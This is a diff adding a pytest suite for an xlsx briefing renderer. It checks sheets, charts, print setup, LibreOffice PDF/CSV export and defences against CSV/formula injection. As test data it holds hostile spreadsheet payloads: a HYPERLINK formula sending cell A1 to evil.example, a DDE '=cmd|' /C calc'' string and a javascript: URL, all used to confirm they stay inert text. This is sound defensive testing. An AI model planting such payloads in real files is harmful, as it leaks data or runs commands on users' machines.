@@ -1,0 +1,534 @@
+"""The xlsx briefing: read back with openpyxl, opened by LibreOffice (PDF, CSV), and safe with hostile text."""
+
+from __future__ import annotations
+
+import csv
+import dataclasses
+import datetime as dt
+import re
+import shutil
+import subprocess
+import tempfile
+import uuid
+import zipfile
+from collections.abc import Iterator
+from pathlib import Path
+
+import openpyxl
+import pytest
+from conftest import EDITION, append_row, edit_workbook, run_cli, soffice_convert
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from report.briefing import (
+    STATES,
+    Briefing,
+    Changes,
+    FieldChange,
+    HealthItem,
+    Link,
+    QuarterWeight,
+    RowChange,
+    SourceRow,
+    WatchItem,
+)
+from report.render.xlsx import (
+    FORMULA_STARTS,
+    MAX_CELL_CHARS,
+    STATE_COLOURS,
+    cell_text,
+    cut_marker,
+    excel_length,
+    render_xlsx,
+    render_xlsx_report,
+    sheet_name,
+    truncations,
+)
+
+SHEETS = ["Briefing", "Labs", "Evidence", "Signals", "Timeline", "Watchlist", "Data health", "Sources"]
+INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+HOSTILE = [INJECTION, "+44 20 7946 0000", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1", "=cmd|' /C calc'!A0"]
+LONG = "Long signal " + "x" * 40_000
+
+
+# --- Fixtures ----------------------------------------------------------------------------------------------
+
+@pytest.fixture(scope="module")
+def sample_xlsx(sample_briefing: Briefing, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    path = tmp_path_factory.mktemp("xlsx") / f"{sample_briefing.stem}.xlsx"
+    path.write_bytes(render_xlsx(sample_briefing))
+    return path
+
+
+@pytest.fixture(scope="module")
+def book(sample_xlsx: Path) -> Iterator[openpyxl.Workbook]:
+    loaded = openpyxl.load_workbook(sample_xlsx)
+    yield loaded
+    loaded.close()
+
+
+def busy(b: Briefing) -> Briefing:
+    """The sample with everything a renderer can meet: hostile and huge text, links, changes, flags, problems."""
+    extra = [
+        dataclasses.replace(b.signals[0], signal=text, value=text, lab=text if text.startswith("@") else None,
+                            source=Link(text, None))
+        for text in HOSTILE
+    ] + [dataclasses.replace(b.signals[1], signal=LONG)]
+    signals = tuple(b.signals) + tuple(extra)
+    day = dt.timedelta(days=1)
+    watch = (
+        WatchItem(EDITION - 3 * day, "=Overdue milestone", "It slipped", "Upcoming", None, -3, True, False),
+        WatchItem(EDITION + 5 * day, "Due-soon milestone", None, "Upcoming", None, 5, False, True),
+        WatchItem(EDITION + 90 * day, "Later milestone", None, "Upcoming", None, 90, False, False),
+        WatchItem(EDITION - 9 * day, "Happened milestone", None, "Happened", "It did", -9, False, False),
+    )
+    sources = (
+        SourceRow("Web page", "Publisher", Link("Web page", "https://example.org/a?b=1&c=2"),
+                  "https://example.org/a?b=1&c=2", EDITION, 2),
+        SourceRow("Mail", None, Link("Mail", "mailto:desk@example.com"), "mailto:desk@example.com", None, 1),
+        SourceRow("Script", None, Link("Script", "javascript:alert(1)"), "javascript:alert(1)", None, 0),
+        SourceRow("=Formula name", None, Link("=Formula name", "https://example.org/f"), "https://example.org/f",
+                  None, 0),
+        SourceRow("Plain", None, Link("Plain", None), None, None, 0),
+    )
+    changes = Changes(
+        previous_edition=EDITION - 7 * day,
+        rows=(RowChange("Labs", "DeepSeek", "changed", (FieldChange("Flagship weights", "Open", "Closed"),
+                                                        FieldChange("Status since", "–", "2026-05-30"))),
+              RowChange("Events", "2026-05-30 · DeepSeek · Closed flagship", "added"),
+              RowChange("Signals", "-Removed signal", "removed")),
+        verdict_before="TOO EARLY", verdict_after="SPREADING", score_before=-0.6, score_after=1.2,
+        figures=(FieldChange("Followers", "0", "1"),),
+    )
+    health = (HealthItem("stale", "Signals row 3", "'x' was observed 40 days ago"),
+              HealthItem("no-source", "Labs row 4", "'Zhipu' has no source."),
+              HealthItem("warning", "Labs!Z1", "+unknown column 'Extra' is ignored"))
+    quarters = (*b.quarters, QuarterWeight("2026-Q3", 2.4, 0.6, 1.8, 4), QuarterWeight("2026-Q4", 0.0, 0.0, 0.0, 0),
+                QuarterWeight("2027-Q1", 0.3, 2.7, -2.4, 6))
+    verdict = dataclasses.replace(b.verdict, state="SPREADING", followers=("DeepSeek",))
+    masthead = dataclasses.replace(b.masthead, title="=Q&A briefing [test]", editor="@editor")
+    return dataclasses.replace(b, masthead=masthead, verdict=verdict, signals=signals, watchlist=watch,
+                               sources=sources, changes=changes, health=health, quarters=quarters)
+
+
+@pytest.fixture(scope="module")
+def busy_xlsx(sample_briefing: Briefing, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    path = tmp_path_factory.mktemp("busy") / "busy.xlsx"
+    path.write_bytes(render_xlsx(busy(sample_briefing)))
+    return path
+
+
+def name_cell(book: openpyxl.Workbook, name: str) -> openpyxl.cell.Cell:
+    """The cell a defined name points at."""
+    ((sheet, ref),) = list(book.defined_names[name].destinations)
+    return book[sheet][ref.replace("$", "")]
+
+
+def sheet_xml(path: Path) -> dict[str, str]:
+    with zipfile.ZipFile(path) as archive:
+        return {n: archive.read(n).decode("utf-8") for n in archive.namelist()
+                if n.startswith("xl/worksheets/sheet")}
+
+
+def unescape(value: str) -> str:
+    """The text as Excel reads it: openpyxl leaves XlsxWriter's _x000D_ escapes of control characters as is."""
+    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)
+
+
+def find(ws: openpyxl.worksheet.worksheet.Worksheet, value: object) -> openpyxl.cell.Cell:
+    for row in ws.iter_rows():
+        for cell in row:
+            if cell.value == value:
+                return cell
+    raise AssertionError(f"{value!r} is not on {ws.title}")
+
+
+def lo_sheet_csv(source: Path, sheet: int, outdir: Path) -> list[list[str]]:
+    """One sheet (1-based) as LibreOffice exports it to CSV, values as shown."""
+    soffice = shutil.which("soffice") or shutil.which("libreoffice")
+    assert soffice, "LibreOffice is not installed"
+    profile = Path(tempfile.gettempdir()) / f"lo-profile-{uuid.uuid4().hex}"
+    outdir.mkdir(parents=True, exist_ok=True)
+    # Tokens: separator, quote, UTF-8, first line, cell format, language, quoted as text, detect special
+    # numbers, save as shown, export formulas, remove space, sheet number.
+    to = f"csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,{sheet}"
+    try:
+        done = subprocess.run([soffice, f"-env:UserInstallation=file://{profile}", "--headless", "--norestore",
+                               "--convert-to", to, "--outdir", str(outdir), str(source)],
+                              capture_output=True, text=True, timeout=180, check=False)
+    finally:
+        shutil.rmtree(profile, ignore_errors=True)
+    # LibreOffice names a one-sheet export after the sheet: tracker-Signals.csv.
+    produced = list(outdir.glob(f"{source.stem}-*.csv"))
+    assert done.returncode == 0 and len(produced) == 1, done.stdout + done.stderr
+    with produced[0].open(newline="", encoding="utf-8") as handle:
+        return list(csv.reader(handle))
+
+
+# --- Structure ---------------------------------------------------------------------------------------------
+
+def test_sheets_in_section_order_briefing_first_and_active(book: openpyxl.Workbook) -> None:
+    assert book.sheetnames == SHEETS
+    assert book.active.title == "Briefing"
+
+
+def test_briefing_shows_the_same_verdict_and_figures(book: openpyxl.Workbook, sample_briefing: Briefing) -> None:
+    v, f = sample_briefing.verdict, sample_briefing.figures
+    assert name_cell(book, "Verdict").value == v.state == "TOO EARLY"
+    assert find(book["Briefing"], v.headline).data_type == "s"
+    expected = {"Followers": 0, "WatchedLabs": 4, "Score": -0.6, "PaysWeight": 1.2, "RevertsWeight": 1.8,
+                "SignalsThisQuarter": f.signals_this_quarter, "DaysSincePivot": 42,
+                "DaysToNextMilestone": f.days_to_next_milestone}
+    for name, value in expected.items():
+        cell = name_cell(book, name)
+        assert cell.data_type == "n" and cell.value == pytest.approx(value), name
+    assert name_cell(book, "Score").number_format == "+0.00;-0.00;0.00"
+    assert name_cell(book, "PaysWeight").number_format == "0.00"
+    for name, day in (("EditionDate", EDITION), ("NextMilestoneDue", f.next_milestone_due)):
+        cell = name_cell(book, name)
+        assert cell.is_date and cell.value.date() == day and cell.number_format == "yyyy-mm-dd"
+    ws = book["Briefing"]
+    assert ws["A1"].value == sample_briefing.masthead.title
+    assert find(ws, "2026-W23")
+    assert find(ws, "of 4 watched labs")
+    assert find(ws, "First edition: no earlier briefing to compare.")
+
+
+def test_reasons_facts_then_signals_with_signed_weights(book: openpyxl.Workbook, sample_briefing: Briefing) -> None:
+    ws = book["Briefing"]
+    header = find(ws, "Kind").row
+    rows = [(ws.cell(r, 1).value, ws.cell(r, 2).value, ws.cell(r, 3).value)
+            for r in range(header + 1, header + 1 + len(sample_briefing.verdict.reasons))]
+    assert [r[2] for r in rows] == [r.text for r in sample_briefing.verdict.reasons]
+    assert [r[0] for r in rows] == ["Fact", "Fact", "Signal", "Signal", "Signal", "Signal"]
+    assert [r[1] for r in rows[2:]] == pytest.approx([1.2, -0.6, -0.6, -0.6])
+    assert ws.cell(header + 3, 2).number_format == "+0.00;-0.00;0.00"
+
+
+def test_each_state_has_its_own_fill(sample_briefing: Briefing, tmp_path: Path) -> None:
+    fills = {}
+    for state in STATES:
+        briefing = dataclasses.replace(sample_briefing, verdict=dataclasses.replace(sample_briefing.verdict,
+                                                                                    state=state))
+        path = tmp_path / "state.xlsx"
+        path.write_bytes(render_xlsx(briefing))
+        cell = name_cell(openpyxl.load_workbook(path), "Verdict")
+        assert cell.value == state
+        fills[state] = cell.fill.fgColor.rgb
+    assert len(set(fills.values())) == len(STATES)
+    assert fills["TOO EARLY"].endswith(STATE_COLOURS["TOO EARLY"][0].lstrip("#"))
+
+
+def test_evidence_table_matches_the_quarters(book: openpyxl.Workbook, sample_briefing: Briefing) -> None:
+    ws = book["Evidence"]
+    cell = find(ws, "2026-Q2")
+    row = [ws.cell(cell.row, c).value for c in range(1, 6)]
+    assert row[1:] == pytest.approx([1.2, 1.8, -0.6, 5])
+    assert [ws.cell(cell.row - 1, c).value for c in range(1, 6)] == ["Quarter", "Pays", "Reverts", "Net", "Signals"]
+    assert ws.cell(cell.row, 4).number_format == "+0.00;-0.00;0.00"
+    assert len(sample_briefing.quarters) == 1
+
+
+def test_native_combined_chart(sample_xlsx: Path) -> None:
+    with zipfile.ZipFile(sample_xlsx) as archive:
+        chart = archive.read("xl/charts/chart1.xml").decode("utf-8")
+        drawing_rels = archive.read("xl/worksheets/_rels/sheet3.xml.rels").decode("utf-8")
+    assert "<c:barChart>" in chart and "<c:lineChart>" in chart  # columns with the net as a line
+    assert 'barDir val="col"' in chart
+    for text in ("Pays vs reverts weight per quarter", "Quarter", "Weight"):
+        assert f"<a:t>{text}</a:t>" in chart
+    assert "<c:f>Evidence!$A$4</c:f>" in chart and "<c:f>Evidence!$D$4</c:f>" in chart  # one quarter
+    assert "drawing" in drawing_rels  # on the Evidence sheet
+
+
+def test_frozen_headers_and_filters(book: openpyxl.Workbook) -> None:
+    for ws in book.worksheets:
+        assert ws.freeze_panes, ws.title
+    signals = book["Signals"]
+    header = [c.row for c in signals["A"] if c.value == "Quarter"][-1]  # the all-signals table
+    assert signals.auto_filter.ref == f"A{header}:K{header + 5}"
+    assert book["Labs"].freeze_panes == "B4"  # the header rows and the Lab column
+
+
+def test_print_setup_on_every_sheet(sample_xlsx: Path, book: openpyxl.Workbook) -> None:
+    for name, xml in sheet_xml(sample_xlsx).items():
+        assert 'orientation="landscape"' in xml, name
+        assert '<pageSetUpPr fitToPage="1"/>' in xml and 'fitToHeight="0"' in xml, name  # one page wide
+        assert "&amp;CThe bifurcation briefing" in xml.replace('&amp;"-,Bold"', ""), name
+        assert "Page &amp;P of &amp;N" in xml, name
+    for ws in book.worksheets[1:]:
+        assert ws.print_title_rows, ws.title
+
+
+def test_document_properties(book: openpyxl.Workbook, sample_briefing: Briefing) -> None:
+    props = book.properties
+    assert props.title == "The bifurcation briefing"
+    assert props.creator == "The open-weights desk"  # no editor in the sample: the publication
+    assert "2026-06-01" in props.subject and "2026-W23" in props.subject
+    assert props.created == dt.datetime(2026, 6, 1)
+
+
+def test_column_widths_fit_the_content(book: openpyxl.Workbook) -> None:
+    signals = book["Signals"]
+    assert 24 <= signals.column_dimensions["B"].width <= 53  # the Signal column: wide, capped
+    assert signals.column_dimensions["A"].width < 12  # Quarter: narrow
+    labs = book["Labs"]
+    assert labs.column_dimensions["A"].width < labs.column_dimensions["E"].width + 5
+
+
+def test_labs_board_words_and_colours(book: openpyxl.Workbook) -> None:
+    ws = book["Labs"]
+    alibaba = find(ws, "Alibaba")
+    assert [ws.cell(alibaba.row, c).value for c in (2, 3)] == ["Pivot lab", "Closed"]
+    assert alibaba.font.b
+    assert ws.cell(find(ws, "DeepSeek").row, 3).value == "Open"
+    rules = {(str(cf.sqref), rule.formula[0]) for cf in ws.conditional_formatting for rule in cf.rules}
+    assert ("C4:C8", '"Closed"') in rules and ("C4:C8", '"Open"') in rules
+
+
+def test_signals_latest_quarter_block_then_all(book: openpyxl.Workbook, sample_briefing: Briefing) -> None:
+    ws = book["Signals"]
+    assert ws["A1"].value == "The latest quarter's signals: 2026-Q2"
+    assert ws["B3"].value == sample_briefing.latest_signals[0].signal
+    assert ws["H3"].value == pytest.approx(1.2) and ws["H3"].number_format == "+0.00;-0.00;0.00"
+    assert find(ws, "All signals, latest quarter first (use the filter arrows)")
+    assert ws["J3"].is_date
+
+
+# --- What changed, watchlist, links, health ----------------------------------------------------------------
+
+def test_what_changed_lists_rows_verdict_and_score(busy_xlsx: Path) -> None:
+    ws = openpyxl.load_workbook(busy_xlsx)["Briefing"]
+    texts = {c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
+    assert "Compared with the edition of 2026-05-25." in texts
+    assert "TOO EARLY → SPREADING" in texts
+    assert "−0.60 → +1.20" in texts
+    assert "Flagship weights: Open → Closed\nStatus since: – → 2026-05-30" in texts
+    assert {"Added", "Removed", "Changed", "Verdict", "Score", "Key figure"} <= texts
+    assert "Signals: -Removed signal" in texts
+    assert "of 4 watched labs: DeepSeek" in texts
+
+
+def test_watchlist_flags_with_words_and_conditional_formats(busy_xlsx: Path) -> None:
+    ws = openpyxl.load_workbook(busy_xlsx)["Watchlist"]
+    words = {ws.cell(r, 5).value: ws.cell(r, 3).value for r in range(4, 8)}
+    assert words == {"=Overdue milestone": "Overdue", "Due-soon milestone": "Due soon", "Later milestone": None,
+                     "Happened milestone": None}
+    assert ws["B4"].value == -3 and ws["B4"].data_type == "n"
+    formulas = sorted(rule.formula[0] for cf in ws.conditional_formatting for rule in cf.rules)
+    assert formulas == ['$C4="Due soon"', '$C4="Overdue"']
+
+
+def test_links_only_for_http_https_and_mailto(busy_xlsx: Path) -> None:
+    ws = openpyxl.load_workbook(busy_xlsx)["Sources"]
+    links = {ws.cell(r, 1).value: ws.cell(r, 1).hyperlink.target if ws.cell(r, 1).hyperlink else None
+             for r in range(4, 9)}
+    assert links == {"Web page": "https://example.org/a?b=1&c=2", "Mail": "mailto:desk@example.com",
+                     "Script": None, "=Formula name": "https://example.org/f", "Plain": None}
+    assert ws["E6"].value == "javascript:alert(1)" and ws["E6"].data_type == "s"  # shown, not linked
+    assert ws["A7"].quotePrefix
+
+
+def test_health_rows(busy_xlsx: Path) -> None:
+    ws = openpyxl.load_workbook(busy_xlsx)["Data health"]
+    assert [ws.cell(r, 1).value for r in range(4, 7)] == ["Stale signal", "No source", "Check warning"]
+    assert ws["C6"].value == "+unknown column 'Extra' is ignored" and ws["C6"].quotePrefix
+
+
+def test_evidence_chart_spans_every_quarter(busy_xlsx: Path) -> None:
+    with zipfile.ZipFile(busy_xlsx) as archive:
+        chart = archive.read("xl/charts/chart1.xml").decode("utf-8")
+    assert "<c:f>Evidence!$A$4:$A$7</c:f>" in chart and "<c:f>Evidence!$D$4:$D$7</c:f>" in chart
+    ws = openpyxl.load_workbook(busy_xlsx)["Evidence"]
+    assert [ws.cell(r, 1).value for r in range(4, 8)] == ["2026-Q2", "2026-Q3", "2026-Q4", "2027-Q1"]
+
+
+def test_empty_tables_say_so(sample_briefing: Briefing, tmp_path: Path) -> None:
+    empty = dataclasses.replace(sample_briefing, quarters=(), latest_quarter=None, latest_signals=(), signals=(),
+                                timeline=(), watchlist=(), sources=(), labs=())
+    path = tmp_path / "empty.xlsx"
+    path.write_bytes(render_xlsx(empty))
+    book = openpyxl.load_workbook(path)
+    assert book["Evidence"]["A4"].value == "No signals since the pivot's quarter yet."
+    assert book["Health" if "Health" in book else "Data health"]["A4"].value.startswith("Nothing to report")
+    with zipfile.ZipFile(path) as archive:
+        assert not [n for n in archive.namelist() if n.startswith("xl/charts/")]
+
+
+# --- Safety ------------------------------------------------------------------------------------------------
+
+def test_hostile_text_stays_text_everywhere(busy_xlsx: Path) -> None:
+    for name, xml in sheet_xml(busy_xlsx).items():
+        assert "<f>" not in xml and "<f " not in xml, name
+    book = openpyxl.load_workbook(busy_xlsx)
+    seen = set()
+    for ws in book.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str) and unescape(cell.value).startswith(FORMULA_STARTS):
+                    assert cell.data_type == "s" and cell.quotePrefix, f"{ws.title}!{cell.coordinate}"
+                    seen.add(unescape(cell.value))
+                elif isinstance(cell.value, str):
+                    assert not cell.quotePrefix, f"{ws.title}!{cell.coordinate}"
+    assert set(HOSTILE) <= seen
+    assert book["Briefing"]["A1"].value == "=Q&A briefing [test]"
+
+
+def test_hostile_title_is_safe_in_page_headers_and_properties(busy_xlsx: Path) -> None:
+    book = openpyxl.load_workbook(busy_xlsx)
+    assert book.properties.title == "=Q&A briefing [test]" and book.properties.creator == "@editor"
+    xml = sheet_xml(busy_xlsx)["xl/worksheets/sheet1.xml"]
+    assert "=Q&amp;&amp;A briefing [test]" in xml  # '&' doubled: not a header control code
+
+
+def test_long_text_is_cut_with_a_marker_and_a_warning(sample_briefing: Briefing, busy_xlsx: Path) -> None:
+    ws = openpyxl.load_workbook(busy_xlsx)["Signals"]
+    cut = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("Long")]
+    assert cut and all(excel_length(c.value) <= MAX_CELL_CHARS for c in cut)
+    assert re.search(r"x… \[cut: [\d,]+ characters\]$", cut[0].value)
+    warnings = truncations(busy(sample_briefing))
+    assert warnings and all("characters cut" in w for w in warnings)
+    assert warnings[0].startswith("Signals!B")
+    assert render_xlsx_report(sample_briefing).warnings == ()
+
+
+def test_formula_injection_through_the_workbook(sample_copy: Path, tmp_path: Path) -> None:
+    """A Value typed as text '=HYPERLINK(...)' in the tracker is a string in the report, also in LibreOffice."""
+    from report.analysis import analyse
+    from report.checks import check_file
+
+    def add(book: openpyxl.Workbook) -> None:
+        row = append_row(book, "Signals", {"Quarter": "2026-Q2", "Signal": "Injected value", "Value": INJECTION,
+                                           "Points to": "Neutral", "Observed": EDITION})
+        cell = book["Signals"].cell(row=row, column=[c.value for c in book["Signals"][1]].index("Value") + 1)
+        cell.data_type = "s"  # the editor typed it as text: openpyxl would otherwise save a formula
+
+    edit_workbook(sample_copy, add)
+    result = check_file(sample_copy, today=EDITION)
+    assert result.tracker is not None, [f.line() for f in result.findings]
+    briefing = analyse(result.tracker, EDITION, result.findings)
+    path = tmp_path / "injected.xlsx"
+    path.write_bytes(render_xlsx(briefing))
+
+    ws = openpyxl.load_workbook(path)["Signals"]
+    cells = [c for row in ws.iter_rows() for c in row if c.value == INJECTION]
+    assert len(cells) == 2  # the latest-quarter block and the all-signals table
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
+    assert all("<f>" not in xml for xml in sheet_xml(path).values())
+
+    rows = lo_sheet_csv(path, SHEETS.index("Signals") + 1, tmp_path / "csv")
+    values = [row[3] for row in rows if len(row) > 3 and row[1] == "Injected value"]
+    assert values == [INJECTION, INJECTION]  # LibreOffice shows the text, not a computed "x"
+
+
+# --- Helpers -----------------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("text, quote", [
+    ("=1+1", True), ("+1", True), ("-1", True), ("@SUM(A1)", True), ("\tx", True), ("\rx", True),
+    (" =1+1", False), ("1+1", False), ("plain", False), ("", False), ("−0.60", False), ("'=x", False),
+])
+def test_cell_text_quotes_what_starts_like_a_formula(text: str, quote: bool) -> None:
+    safe = cell_text(text)
+    assert (safe.text, safe.quote, safe.cut) == (text, quote, 0)
+
+
+def test_cell_text_cuts_at_excels_limit() -> None:
+    safe = cell_text("=" + "a" * 40_000)
+    assert excel_length(safe.text) == MAX_CELL_CHARS
+    assert safe.text.endswith(cut_marker(safe.cut)) and safe.quote
+    assert safe.cut == 40_001 - (len(safe.text) - len(cut_marker(safe.cut)))
+    emoji = cell_text("😀" * 20_000)  # two UTF-16 units each: 40,000 units
+    assert excel_length(emoji.text) <= MAX_CELL_CHARS and emoji.cut > 0
+    assert cell_text("a" * MAX_CELL_CHARS).cut == 0
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(max_size=300), st.integers(min_value=40, max_value=200))
+def test_cell_text_properties(text: str, limit: int) -> None:
+    safe = cell_text(text, limit)
+    assert excel_length(safe.text) <= limit
+    assert safe.quote == safe.text.startswith(FORMULA_STARTS)
+    clean = re.sub("[\ud800-\udfff\ufffe\uffff]", "\ufffd", text)  # what XML cannot hold
+    if safe.cut:
+        kept = len(text) - safe.cut
+        assert safe.text == clean[:kept] + cut_marker(safe.cut)
+        # Nothing more would have fitted.
+        assert excel_length(clean[: kept + 1]) + len(cut_marker(safe.cut - 1)) > limit
+    else:
+        assert safe.text == clean
+
+
+@pytest.mark.parametrize("name, expected", [
+    ("Briefing", "Briefing"), ("Data health", "Data health"), ("a/b\\c?d*e[f]g:h", "a b c d e f g h"),
+    ("x" * 40, "x" * 31), ("'quoted'", "quoted"), ("", "Sheet"), ("History", "History sheet"),
+])
+def test_sheet_name_is_safe(name: str, expected: str) -> None:
+    assert sheet_name(name) == expected
+
+
+def test_sheet_name_is_unique_ignoring_case() -> None:
+    assert sheet_name("Labs", ["labs"]) == "Labs (2)"
+    assert sheet_name("y" * 31, ["y" * 31]) == "y" * 27 + " (2)"
+
+
+@given(st.text(max_size=60), st.lists(st.text(max_size=35), max_size=4))
+def test_sheet_name_always_valid(name: str, taken: list[str]) -> None:
+    result = sheet_name(name, taken)
+    assert 1 <= len(result) <= 31
+    assert not set(result) & set("[]:*?/\\") and not result.startswith("'") and not result.endswith("'")
+    assert result.casefold() not in {t.casefold() for t in taken}
+
+
+# --- LibreOffice: it opens, prints and exports ---------------------------------------------------------------
+
+@pytest.fixture(scope="module")
+def pdf_text(sample_xlsx: Path, artifacts: Path, tmp_path_factory: pytest.TempPathFactory) -> str:
+    """The sample briefing printed by LibreOffice; the PDF and its pages (PNG, 60 dpi) go to the artifacts."""
+    pdf = soffice_convert(sample_xlsx, "pdf", tmp_path_factory.mktemp("pdf"))
+    shutil.copyfile(pdf, artifacts / "xlsx-briefing.pdf")
+    for old in artifacts.glob("xlsx-briefing-page-*.png"):
+        old.unlink()
+    subprocess.run(["pdftoppm", "-png", "-r", "60", str(pdf), str(artifacts / "xlsx-briefing-page")], check=True)
+    return subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True,
+                          check=True).stdout
+
+
+def test_pdf_reads_like_the_briefing(pdf_text: str, artifacts: Path) -> None:
+    for text in ("The bifurcation briefing", "TOO EARLY", "The pivot is being watched, not imitated",
+                 "of 4 watched labs", "-0.60", "1.20", "1.80", "2026-06-01", "2026-W23", "Lab board",
+                 "Evidence by quarter", "Pays vs reverts weight per quarter", "Page 1 of 8"):
+        assert text in pdf_text, text
+    pages = sorted(artifacts.glob("xlsx-briefing-page-*.png"))
+    assert len(pages) == len(SHEETS)  # one page per sheet: nothing spills onto a second page
+
+
+def test_busy_pdf_for_a_look(busy_xlsx: Path, artifacts: Path, tmp_path: Path) -> None:
+    pdf = soffice_convert(busy_xlsx, "pdf", tmp_path)
+    shutil.copyfile(pdf, artifacts / "xlsx-busy.pdf")
+    for old in artifacts.glob("xlsx-busy-page-*.png"):
+        old.unlink()
+    subprocess.run(["pdftoppm", "-png", "-r", "60", str(pdf), str(artifacts / "xlsx-busy-page")], check=True)
+    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
+    assert INJECTION in text.replace("\n", "") or 'HYPERLINK("http://evil.example/' in text
+    assert "SPREADING" in text and "Overdue" in text
+
+
+def test_csv_export_shows_the_verdict_and_figures(sample_xlsx: Path, tmp_path: Path) -> None:
+    # The active sheet (Briefing), in UTF-8, values as shown.
+    produced = soffice_convert(sample_xlsx, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true", tmp_path)
+    rows = list(csv.reader(produced.read_text(encoding="utf-8").splitlines()))
+    cells = {cell for row in rows for cell in row}
+    assert {"TOO EARLY", "-0.60", "0", "4", "1.20", "1.80", "2026-06-01", "42", "of 4 watched labs"} <= cells
+    by_label = {row[0]: row[1] for row in rows if len(row) > 1}
+    assert by_label["Followers"] == "0" and by_label["Score"] == "-0.60" and by_label["Edition"] == "2026-06-01"
+
+
+@pytest.mark.skipif(not (Path(__file__).parent.parent / "report" / "history.py").exists(),
+                    reason="report build needs the history module")
+def test_build_writes_the_xlsx(sample_copy: Path, tmp_path: Path) -> None:
+    done = run_cli("build", str(sample_copy), "-o", str(tmp_path / "out"), "--edition", "2026-06-01",
+                   "--format", "xlsx")
+    assert done.returncode == 0, done.stdout + done.stderr
+    book = openpyxl.load_workbook(tmp_path / "out" / "briefing-2026-06-01.xlsx")
+    assert name_cell(book, "Verdict").value == "TOO EARLY"
+    assert name_cell(book, "Score").value == pytest.approx(-0.6)
